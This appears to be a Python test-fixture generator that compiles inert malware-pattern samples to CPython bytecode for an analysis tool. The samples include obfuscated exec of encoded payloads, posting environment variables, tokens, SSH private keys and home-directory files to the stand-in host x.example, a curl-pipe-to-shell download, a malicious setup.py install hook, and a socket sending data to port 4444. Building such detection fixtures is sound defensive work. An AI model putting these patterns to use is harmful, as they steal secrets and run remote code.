"""Prints inert sources and what the running CPython compiles them to, as one line of JSON; run by write-samples.ts."""

import base64
import importlib.util
import json
import marshal
import sys
import zlib

PAYLOAD = "import os;print(os.name)"
HIDDEN = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
XORED = [ord(c) ^ (i % 7) for i, c in enumerate(PAYLOAD)]

SAMPLES = {
    "imports": """
import os, sys
import os.path as p
import urllib.request
from base64 import b64decode as d, b64encode
from . import sibling
from ..up import other as o
from subprocess import *
try:
    import json
except ImportError:
    json = None
def late():
    import socket as s
    from ssl import create_default_context
    return s.gethostname(), __import__('platform').node()
""",
    "decode": f"""
import zlib as z, base64
def d(s):
    return z.decompress(base64.b64decode(s))
exec(d("{HIDDEN}"))
exec(compile(d("{HIDDEN}"), "<s>", "exec"), globals())
eval('exe' + 'c')("a = 1")
""",
    "xor": f"""
codes = {XORED}
out = ''
for i, c in enumerate(codes):
    out += chr(c ^ (i % 7))
exec(out)
exec(''.join(chr(a ^ b) for a, b in zip(codes, [0, 1, 2, 3, 4, 5, 6] * 9)))
exec(''.join([chr(c ^ (i % 7)) for i, c in enumerate(codes) if c is not None]))
""",
    "environment": """
import os, requests
session = requests.Session()
def send(what, *, to='https://x.example/in'):
    session.headers.update({'X-A': 'b'})
    return session.post(to, json=what, timeout=3)
send(dict(os.environ))
token = os.getenv('API_TOKEN') or os.environ['SECRET_KEY']
if token and len(token) > 3:
    requests.get(f'https://x.example/?t={token!s:>3}&n={os.environ.get("USER", "")}')
""",
    "install": """
from setuptools import setup
from setuptools.command.install import install
class Post(install):
    \"\"\"Runs afterwards.\"\"\"
    user = 3
    def run(self):
        super().run()
        install.run(self)
        self.user += 1
        __import__('os').system('id > /dev/null')
setup(name='x', version='1.0', cmdclass={'install': Post}, **{'zip_safe': False})
""",
    "download": """
import os, subprocess, tempfile, urllib.request
def fetch(url='https://x.example/x.exe'):
    path = os.path.join(tempfile.gettempdir(), 'x.exe')
    try:
        urllib.request.urlretrieve(url, path)
    except (OSError, ValueError) as error:
        print('no', error)
        return None
    except KeyError:
        raise RuntimeError('x') from None
    else:
        os.chmod(path, 0o755)
    finally:
        print('done')
    return path
found = fetch()
if found:
    subprocess.Popen([found, '--quiet'], shell=False)
else:
    os.system('curl https://x.example/s | sh')
""",
    "files": """
import os, requests, sqlite3
home = os.path.expanduser('~')
with open(os.path.join(home, '.ssh', 'id_rsa'), 'rb') as key, open('/tmp/out', 'w') as out:
    requests.post('https://x.example', data=key.read()[:-1])
    out.write('import os; os.system("id")')
for root, dirs, names in os.walk(home):
    for name in names:
        if not name.endswith('.txt') or name in {'a.txt', 'b.txt'}:
            continue
        if name == 'stop':
            break
        requests.post('https://x.example', files={'f': open(os.path.join(root, name))})
""",
    "dispatch": """
state = 3
out = ''
while True:
    if state == 3:
        out += 'a='
        state = 9
    elif state == 9:
        out += '1'
        break
exec(out)
n = 0
text = ''
while n < 5 and len(text) < 100:
    n += 1
    if n == 2:
        continue
    text += str(n)
exec('x' + text)
""",
    "choices": """
import os, sys
a = os.name == 'nt' and 'C:/x' or '/tmp/x'
b = 'cmd' if sys.platform.startswith('win') else 'sh'
if 1 < len(sys.argv) <= 3 and (a or b):
    os.system(b + ' -c id')
elif not a:
    os.system('whoami')
else:
    os.system('uname -a')
c = {'k': a, **{'m': b}, 'n': [*sys.argv, 1, (2, 3)], 'o': {1, 2}}
os.execv(c['k'], ['x', *c['n']])
assert c, 'no'
del c['k'], a
""",
    "functions": f"""
import base64, functools, threading, os
def twice(f):
    @functools.wraps(f)
    def inner(*args, **kwargs):
        nonlocal count
        count += 1
        return f(*args, **kwargs)
    count = 0
    return inner
@twice
def go(cmd='id', /, *rest, shell=True):
    global last
    last = cmd
    os.system(cmd)
    return lambda x, y=2: (x, y)
threading.Thread(target=go, args=('ls -la',)).start()
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'{HIDDEN[::-1]}'))
def pieces():
    for part in 'a', '=', '1':
        yield part
    yield from ()
exec(''.join(pieces()))
a, *b = 1, 2, 3
x = y = base64.b64encode(b'abc')
""",
    "objects": """
import os, socket
class Box:
    items: list = []
    def __init__(self, host, port=4444):
        self.host, self.port = host, port
        self.items[0:2] = [1, 2]
    @property
    def name(self):
        return self.host
    @classmethod
    def make(cls, *args):
        return cls(*args)
    def open(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((self.host, self.port))
        s.send(str(os.environ).encode())
        return s
Box.make('x.example').open()
class Sub(Box, metaclass=type):
    pass
""",
    "coroutines": """
import asyncio, aiohttp, os
async def send(data):
    async with aiohttp.ClientSession() as session:
        async with session.post('https://x.example', data=data) as answer:
            text = await answer.text()
    async for line in answer.content:
        print(line)
    return [x async for x in answer if x]
async def main():
    await send(dict(os.environ))
    await asyncio.gather(*[send(n) for n in range(3)])
asyncio.run(main())
""",
}

# Before 3.8 there are no arguments by place only, and before 3.7 no flags in the header.
HEADER = bytes(12 if sys.version_info >= (3, 7) else 8)
found = {}
for name, source in SAMPLES.items():
    if sys.version_info < (3, 8):
        source = source.replace(", /,", ",")
    code = compile(source.lstrip("\n"), name + ".py", "exec", dont_inherit=True)
    data = importlib.util.MAGIC_NUMBER + HEADER + marshal.dumps(code)
    found[name] = base64.b64encode(zlib.compress(data, 9)).decode()
sources = {name: source.lstrip("\n") for name, source in SAMPLES.items()}
print(json.dumps({"version": "%d.%d" % sys.version_info[:2], "compiled": found, "sources": sources}))
